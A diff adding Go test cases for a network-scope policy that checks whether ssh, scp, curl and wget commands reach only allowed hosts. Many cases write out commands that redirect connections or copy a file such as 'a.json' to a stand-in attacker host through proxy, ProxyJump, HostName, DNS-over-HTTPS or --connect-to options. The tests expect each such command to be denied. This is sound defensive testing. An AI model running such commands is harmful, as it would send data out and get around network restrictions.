@@ -65,6 +65,17 @@ func TestProgHostsList(t *testing.T) {
 		{cmd: "ssh -p 2222 git@git.example.org", reason: deny},
 		{cmd: "ssh -J evil.example git@git.example.org", reason: deny},
 		{cmd: "ssh ssh://git@10.0.0.5"},
+		{cmd: "ssh -o ProxyJump=evil.example git@git.example.org", reason: deny},
+		{cmd: "ssh -o 'proxyjump = 10.0.0.5' git@git.example.org"},
+		{cmd: "ssh -o ProxyJump=none git@git.example.org"},
+		{cmd: "ssh -oHostName=evil.example git.example.org", reason: deny},
+		{cmd: "ssh -o 'HostName evil.example' git.example.org", reason: deny},
+		{cmd: "ssh -o HostName=10.0.0.5 forge"},
+		{cmd: "ssh -o HostName=%h.evil.example git.example.org", reason: deny},
+		{cmd: "ssh -o Port=2222 git@git.example.org", reason: deny},
+		{cmd: "ssh -o Port=22 git@git.example.org"},
+		{cmd: "scp -o HostName=evil.example a.json git.example.org:/tmp/", reason: deny},
+		{cmd: "scp -o ProxyJump=evil.example a.json git.example.org:/tmp/", reason: deny},
 		{cmd: "scp a.json evil.example:/tmp/", reason: deny},
 		{cmd: "scp a.json user@10.0.0.5:/tmp/"},
 		{cmd: "scp -P 2200 a.json user@10.0.0.5:/tmp/", reason: deny},
@@ -232,4 +243,69 @@ func TestDecideHost(t *testing.T) {
 	if d := anyScope.DecideHost("web_fetch", "evil.example", 443, "WebFetch fetches"); !d.Allowed {
 		t.Errorf("network any: %+v", d)
 	}
+}
+
+// TestProgHostsOptions checks the options whose value names where a
+// program connects besides its URL: proxies, name servers, the address a
+// request is sent to instead of its host.
+func TestProgHostsOptions(t *testing.T) {
+	const deny = "host_not_in_scope"
+	net := policy.NetworkRules{Mode: policy.NetworkList, Hosts: []string{
+		"github.com", "proxy.corp.example:3128", "socks.corp.example:1080", "secure-proxy.corp.example",
+		"doh.corp.example", "10.0.0.53:53", "140.82.112.3", "[2001:db8::5]", "localhost:8080",
+	}}
+	runNetCases(t, net, []string{"curl", "wget", "wget -e", "git"}, []progCase{
+		// Proxies: [scheme://][user[:password]@]host[:port], port 1080 (443 for https://).
+		{cmd: "curl -x http://proxy.corp.example:3128 https://github.com"},
+		{cmd: "curl -xproxy.corp.example:3128 https://github.com"},
+		{cmd: "curl -x https://secure-proxy.corp.example https://github.com"},
+		{cmd: "curl -x '' https://github.com"},
+		{cmd: "curl --preproxy socks5://socks.corp.example -x http://proxy.corp.example:3128 https://github.com"},
+		{cmd: "curl --preproxy=evil.example https://github.com", reason: deny},
+		{cmd: "curl --prepr=evil.example https://github.com", reason: deny},
+		{cmd: "curl --proxy1.0=proxy.corp.example:3128 https://github.com"},
+		{cmd: "curl --socks4 socks.corp.example https://github.com"},
+		{cmd: "curl --socks4=evil.example https://github.com", reason: deny},
+		{cmd: "curl --socks4a=evil.example:1080 https://github.com", reason: deny},
+		{cmd: "curl --socks5=evil.example https://github.com", reason: deny},
+		{cmd: "curl --socks5 socks5://user:pw@socks.corp.example:1080 https://github.com"},
+		{cmd: "curl --socks5-hostname=evil.example https://github.com", reason: deny},
+		{cmd: "curl --socks5-hostname socks.corp.example https://github.com"},
+		{cmd: "curl --socks5=[2001:db8::6]:1080 https://github.com", reason: deny},
+		{cmd: "curl -x http://user:pa/ss@evil.example https://github.com", reason: deny},
+		// Name resolution: DNS over HTTPS, name servers.
+		{cmd: "curl --doh-url https://doh.corp.example/dns-query https://github.com"},
+		{cmd: "curl --doh-url=https://evil.example/dns-query https://github.com", reason: deny},
+		{cmd: "curl --doh-url '' https://github.com"},
+		{cmd: "curl --dns-servers 10.0.0.53 https://github.com"},
+		{cmd: "curl --dns-servers=10.0.0.53:5353 https://github.com", reason: deny},
+		// --connect-to HOST1:PORT1:HOST2:PORT2, empty fields meaning any or the request's own.
+		{cmd: "curl --connect-to github.com:443:140.82.112.3:443 https://github.com"},
+		{cmd: "curl --connect-to :443::25 https://github.com", reason: deny},
+		{cmd: "curl --connect-to github.com:443::8443 https://github.com", reason: deny},
+		{cmd: "curl --connect-to ::: https://github.com"},
+		{cmd: "curl --connect-to github.com:443:[2001:db8::5]:443 https://github.com"},
+		{cmd: "curl --connect-to github.com:443:evil.example https://github.com", reason: deny},
+		// --resolve [+]HOST:PORT:ADDR[,ADDR]: the request goes to ADDR.
+		{cmd: "curl --resolve github.com:443:140.82.112.3 https://github.com"},
+		{cmd: "curl --resolve +github.com:443:140.82.112.3,[2001:db8::5] https://github.com"},
+		{cmd: "curl --resolve github.com:443:2001:db8::6 https://github.com", reason: deny},
+		{cmd: "curl --resolve -github.com:443 https://github.com"},
+		{cmd: "curl --resolve github.com https://github.com", reason: deny},
+		// wget: wgetrc proxies (wget -e), the base URL of an input file.
+		{cmd: "wget -e use_proxy=on -e http_proxy=http://proxy.corp.example:3128 https://github.com/x"},
+		{cmd: "wget -e https_proxy=http://evil.example:3128 https://github.com/x", reason: deny},
+		{cmd: "wget --execute=HTTPS-Proxy=evil.example:3128 https://github.com/x", reason: deny},
+		{cmd: "wget -e 'http_proxy = evil.example' https://github.com/x", reason: deny},
+		{cmd: "wget -e robots=off https://github.com/x"},
+		{cmd: "wget -B https://github.com/ -i a.json"},
+		{cmd: "wget --base=https://evil.example/ -i a.json", reason: deny},
+		// curl 8.3's --expand-OPTION is OPTION, its {{variables}} known only at run time.
+		{cmd: "curl --expand-proxy=evil.example https://github.com", reason: deny},
+		{cmd: "curl --expand-url=https://evil.example/", reason: deny},
+		{cmd: "curl --expand-proxy '{{env:P}}' https://github.com"},
+		{cmd: "curl --expand-output '{{o}}' https://github.com", reason: "dynamic_command"},
+		// A value known only at run time is decided when curl connects.
+		{cmd: "curl -x \"$P\" https://github.com"},
+	})
 }
